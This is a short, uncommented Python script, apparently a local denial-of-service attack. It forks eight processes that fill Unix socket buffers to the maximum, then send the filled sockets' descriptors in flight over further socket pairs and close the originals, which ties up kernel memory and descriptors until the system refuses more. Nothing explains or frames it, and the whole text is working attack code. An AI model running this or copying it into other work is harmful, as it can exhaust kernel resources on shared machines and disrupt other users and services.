def fill(sender):
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
    sender.setblocking(False)
    try:
        while True:
            sender.send(bytes(16384))
    except BlockingIOError:
        pass


def flood():
    carriers = []
    while True:
        one, other = socket.socketpair()
        for end in (one, other):
            fill(end)
        carriers.append(socket.socketpair())
        try:
            socket.send_fds(carriers[-1][0], [b"."], [one.fileno(), other.fileno()])
        except OSError:
            break
        one.close()
        other.close()
    time.sleep(60)


for _ in range(8):
    if os.fork() == 0:
        flood()
time.sleep(60)
